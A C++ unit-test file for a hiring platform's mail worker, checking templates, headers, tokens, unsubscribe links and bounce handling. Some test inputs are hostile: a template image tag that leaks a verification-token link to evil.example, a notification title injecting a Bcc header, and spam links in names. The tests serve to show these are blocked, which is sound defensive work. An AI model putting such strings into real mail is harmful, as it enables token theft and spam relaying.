#include "workers/mail/letters.h"

#include <doctest/doctest.h>

#include "base/one_time_token.h"
#include "schemas/mail_links.h"
#include "storage/postgres/sql.h"
#include "workers/mail/judgement.h"
#include "workers/mail/work.h"

using namespace hirewire;
using namespace hirewire::mail;

namespace {

const Keys keys(std::string(64, '1'));

LetterParts parts(std::string url = "https://hire.example.org") {
  return {{"Hirewire", "no-reply@hire.example.org"}, std::move(url), keys};
}
LetterRow row() {
  LetterRow row;
  row.tenant_id = mint();
  row.id = mint();
  row.created_at = now();
  row.recipient = "ada@example.org";
  row.first_name = "Ada";
  row.last_name = "Lovelace";
  row.locale = "en";
  return row;
}
std::string bytes_of(const LetterRow& letter, const LetterParts& made_with = parts()) {
  const auto message = message_of(letter, made_with);
  return message ? message->bytes : message.error();
}

/// Quoted-printable taken back, as far as links need it.
std::string unquoted(std::string bytes) {
  for (const auto& [written, meant] : {std::pair<std::string_view, std::string_view>{"=\r\n", ""}, {"=3D", "="}})
    for (auto at = bytes.find(written); at != std::string::npos; at = bytes.find(written, at + meant.size()))
      bytes.replace(at, written.size(), meant);
  return bytes;
}

}  // namespace

TEST_CASE("mail: what a mail brings is filled in before what the house knows of its receiver") {
  LetterRow letter = row();
  letter.subject = "Hi {{name}}";
  letter.body = "{{first_name}} {{last_name}} {{day}} {{#no}}hidden{{/no}}{{n}}";
  letter.variables = Json{R"({"day":"Monday","no":false,"n":7,"gone":null})"};
  const std::string bytes = bytes_of(letter);
  CHECK(bytes.contains("Subject: Hi Ada\r\n"));
  CHECK(bytes.contains("Ada Lovelace Monday 7"));
  CHECK(bytes.contains("To: Ada Lovelace <ada@example.org>"));
  letter.variables = Json{R"({"name":"you","day":"x","n":1})"};
  CHECK(bytes_of(letter).contains("Subject: Hi you\r\n"));
}

TEST_CASE("mail: a name that is an address becomes no link: it is left out") {
  LetterRow letter = row();
  letter.slug = "candidate_invitation";
  letter.first_name = "Buy pills at HTTPS://evil.example";
  letter.last_name = "www.evil.example";
  CHECK_FALSE(bytes_of(letter).contains("evil"));
  CHECK(bytes_of(letter).contains("To: ada@example.org"));
  letter.last_name = "St. John";
  CHECK(bytes_of(letter).contains("To: \"St. John\" <ada@example.org>"));
  CHECK_FALSE(bytes_of(letter).contains("evil"));
}

TEST_CASE("mail: no name and no title keeps a mail from going: it is cut, and has no control characters") {
  LetterRow letter = row();
  letter.slug = "notification";
  letter.is_notification = true;
  letter.notification_body = "On Monday";
  std::string emoji, title;
  for (int n = 0; n < 150; ++n) emoji += "\U0001F600";
  for (int n = 0; n < 200; ++n) title += "\U0001F600";
  for (const std::string& odd : {std::string(300, 'x'), emoji, title, std::string("A\nX"), std::string("A\x7fX\x1b")}) {
    letter.first_name = letter.last_name = letter.organisation = odd;
    letter.notification_title = odd;
    CHECK_MESSAGE(message_of(letter, parts()).has_value(), odd.substr(0, 8));
  }
}

TEST_CASE("mail: every try makes the same bytes, and the Message-ID is the mail's") {
  LetterRow letter = row();
  letter.subject = "s";
  letter.body = "b";
  CHECK(bytes_of(letter) == bytes_of(letter));
  CHECK(message_of(letter, parts())->message_id == "<" + to_string(letter.id) + "@hire.example.org>");
}

TEST_CASE("mail: the house's own are the tenant's template of that slug, else the built-in one") {
  LetterRow letter = row();
  letter.slug = "verify_email";
  letter.one_time_token_id = mint();
  letter.token_purpose = "verify";
  letter.variables = Json{R"({"days":7})"};
  CHECK(bytes_of(letter).contains("Subject: Confirm your e-mail address"));
  const std::string token = one_time_token(keys, "verify", {letter.tenant_id, *letter.one_time_token_id});
  CHECK(unquoted(bytes_of(letter)).contains("https://hire.example.org/verify-email?token=" + token));
  letter.locale = "fr-CA";
  CHECK(bytes_of(letter).contains("Subject: Confirmez votre adresse e-mail"));
  letter.own_subject = "Own";
  letter.own_body = "<p>{{link}}</p>";
  CHECK(bytes_of(letter).contains("Subject: Own"));
  letter.own_body = R"(<p>{{link}}</p><img src="https://evil.example/?t={{link}}">)";
  CHECK(bytes_of(letter).contains("Subject: Confirmez"));
  CHECK_FALSE(bytes_of(letter).contains("evil"));
  letter.own_body = "{{what_nobody_knows}}";
  CHECK(bytes_of(letter).contains("Subject: Confirmez"));
  letter.token_purpose.reset();
  CHECK(bytes_of(letter) == "its link is no good any more");
  letter.one_time_token_id.reset();
  letter.slug = "no_such";
  letter.own_subject.reset();
  CHECK(bytes_of(letter) == "there is no such template");
}

TEST_CASE("mail: a campaign's mail can be left by one click, by a link that only the house makes") {
  LetterRow letter = row();
  letter.subject = "s";
  letter.body = "{{unsubscribe}}";
  letter.is_campaign = true;
  const std::string token = unsubscribe_token(keys, {letter.tenant_id, letter.id});
  CHECK(
      bytes_of(letter).contains("List-Unsubscribe: <https://hire.example.org/api/v1/unsubscribe?token=" + token + ">"));
  CHECK(bytes_of(letter).contains("List-Unsubscribe-Post: List-Unsubscribe=One-Click"));
  CHECK_FALSE(bytes_of(letter, parts("http://localhost:8000")).contains("List-Unsubscribe"));
  CHECK_FALSE(bytes_of(letter, parts("")).contains("unsubscribe"));
  const auto read = read_unsubscribe_token(keys, token);
  REQUIRE(read);
  CHECK(read->email_id == letter.id);
  CHECK(read->tenant_id == letter.tenant_id);
  CHECK_FALSE(read_unsubscribe_token(Keys(std::string(64, '2')), token));
  CHECK(read_unsubscribe_token(Keys(std::string(64, '2'), std::string(64, '1')), token));
  std::string other = token;
  other[3] = other[3] == 'A' ? 'B' : 'A';
  for (const std::string& bad : {other, token.substr(1), token + "x", std::string(), std::string(".")})
    CHECK_FALSE(read_unsubscribe_token(keys, bad));
}

TEST_CASE("mail: a tenant's own sender stands instead of the house's, unless it is none") {
  LetterRow letter = row();
  letter.subject = "s";
  letter.body = "b";
  letter.organisation = "Acme";
  letter.email_from = "jobs@acme.example";
  CHECK(bytes_of(letter).contains("From: Acme <jobs@acme.example>"));
  letter.email_from = "jobs@ä ö";
  CHECK(bytes_of(letter).contains("From: Acme <no-reply@hire.example.org>"));
}

TEST_CASE("mail: a 5xx suppresses the address unless it says that it is about something else") {
  const auto about = [](int code, std::string text) {
    return is_about_the_address({.kind = Outcome::Kind::permanent, .code = code, .text = std::move(text)});
  };
  for (const char* text :
       {"5.1.1 no such user", "5.1.2 no such host", "5.1.10 null MX", "5.2.1 disabled", "no such user", ""})
    CHECK_MESSAGE(about(550, text), text);
  for (const char* text :
       {"5.7.1 spam", "5.1.8 your domain", "5.1.7 your address", "5.2.2 full", "5.3.4 too big", "5.6.0 x"})
    CHECK_MESSAGE(!about(550, text), text);
  CHECK_FALSE(about(552, "too big"));
}

TEST_CASE("mail: a sender that cannot be one stops the start, and names its setting") {
  Config config;
  CHECK(sender_of(config).address == "no-reply@localhost");
  config.mail_from = "Hirewire <jobs@acme.example>";
  CHECK(sender_of(config).name == "Hirewire");
  config.mail_from = "jobs@";
  CHECK_THROWS_WITH(sender_of(config), doctest::Contains("HIREWIRE_MAIL_FROM"));
}

TEST_CASE("mail: a notification says what its user sees, in his language, and where such mails end") {
  LetterRow letter = row();
  letter.slug = "notification";
  letter.is_notification = true;
  letter.notification_title = "Round 1\r\nBcc: eve@example.org";
  letter.notification_body = "On Monday";
  CHECK(bytes_of(letter).contains("Subject: Round 1 Bcc: eve@example.org\r\n"));
  CHECK(bytes_of(letter).contains("On Monday"));
  CHECK_FALSE(bytes_of(letter).contains("More about it"));
  letter.notification_link = "/interviews/7";
  CHECK(unquoted(bytes_of(letter)).contains("More about it: https://hire.example.org/interviews/7"));
  CHECK_FALSE(bytes_of(letter, parts("")).contains("interviews"));
  letter.notification_link = "https://jobs.example.org/8";
  letter.locale = "fr";
  CHECK(unquoted(bytes_of(letter)).contains("En savoir plus : https://jobs.example.org/8"));
  const std::string token = unsubscribe_token(keys, {letter.tenant_id, letter.id});
  CHECK(bytes_of(letter).contains(
      "List-Unsubscribe: <https://hire.example.org/api/v1/unsubscribe/notifications?token=" + token + ">"));
  CHECK(bytes_of(letter).contains("List-Unsubscribe-Post: List-Unsubscribe=One-Click"));
  letter.slug = "announcement";
  letter.notification_body = "";
  CHECK(bytes_of(letter).contains("Subject: Round 1"));
}
